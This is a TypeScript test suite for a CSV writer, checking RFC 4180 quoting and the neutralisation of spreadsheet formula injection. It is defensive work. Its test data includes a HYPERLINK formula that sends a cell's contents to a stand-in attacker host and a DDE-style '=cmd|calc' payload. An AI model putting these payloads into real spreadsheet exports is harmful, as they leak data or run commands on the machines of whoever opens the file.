import { Readable } from 'node:stream';
import { csvCell, csvChunks, csvDocument, type CsvColumn } from './csv-writer';

describe('csvCell: RFC 4180 quoting and OWASP formula neutralisation', () => {
  it.each<[string, string | null, string]>([
    ['a plain word stays as it is', 'CASGEVY', 'CASGEVY'],
    ['an empty value stays empty', '', ''],
    ['null is an empty cell', null, ''],
    ['a comma is quoted', 'A,B', '"A,B"'],
    ['quotes are doubled inside quotes', 'say "hi"', '"say ""hi"""'],
    ['a line feed is quoted', 'two\nlines', '"two\nlines"'],
    ['= starts a formula: quote-prefixed and quoted', '=1+1', `"'=1+1"`],
    [
      'the HYPERLINK of the review',
      '=HYPERLINK("http://evil.example/?x="&A2,"open")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A2,""open"")"`,
    ],
    ['+ starts a formula', '+1', `"'+1"`],
    ['- starts a formula, even a number in a text column', '-220000.00', `"'-220000.00"`],
    ['@ starts a formula', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['a leading tab', '\t=1', `"'\t=1"`],
    ['a leading carriage return', '\r=1', `"'\r=1"`],
    ['a formula character later in the text is harmless', 'a=b', 'a=b'],
    ['a date', '2026-03-10', '2026-03-10'],
  ])('text: %s', (_case, value, expected) => {
    expect(csvCell(value, 'text')).toBe(expected);
  });

  it.each<[string, string | number, string]>([
    ['a negative amount is data', '-220000.00', '-220000.00'],
    ['a positive amount', '1100000.00', '1100000.00'],
    ['an integer', 12, '12'],
    ['a negative integer', '-5', '-5'],
    ['a formula is not a number: neutralised', '-1+1', `"'-1+1"`],
    ['an exponent is not a plain decimal', '1e3', '1e3'],
    ['a formula in a number column', '=1', `"'=1"`],
    ['a leading plus is not a plain decimal', '+5', `"'+5"`],
  ])('number: %s', (_case, value, expected) => {
    expect(csvCell(value, 'number')).toBe(expected);
  });
});

describe('csv documents', () => {
  const columns: CsvColumn<{ icn: string; amount: string }>[] = [
    { header: 'icn', kind: 'text', value: (r) => r.icn },
    { header: 'amount', kind: 'number', value: (r) => r.amount },
  ];

  it('writes a header and CRLF-terminated rows', () => {
    expect(
      csvDocument(columns, [
        { icn: '=cmd|calc', amount: '-1.00' },
        { icn: 'NY1', amount: '2.50' },
      ]),
    ).toBe(`icn,amount\r\n"'=cmd|calc",-1.00\r\nNY1,2.50\r\n`);
  });

  it('streams batches: one chunk per batch after the header, the same bytes as the document', async () => {
    const batches = Readable.from([[{ icn: '@x', amount: '1' }], [], [{ icn: 'b,c', amount: '-2' }]]);
    const chunks: string[] = [];
    for await (const chunk of csvChunks(columns, batches)) chunks.push(chunk);
    expect(chunks).toEqual(['icn,amount\r\n', `"'@x",1\r\n`, '"b,c",-2\r\n']);
    expect(chunks.join('')).toBe(
      csvDocument(columns, [
        { icn: '@x', amount: '1' },
        { icn: 'b,c', amount: '-2' },
      ]),
    );
  });
});
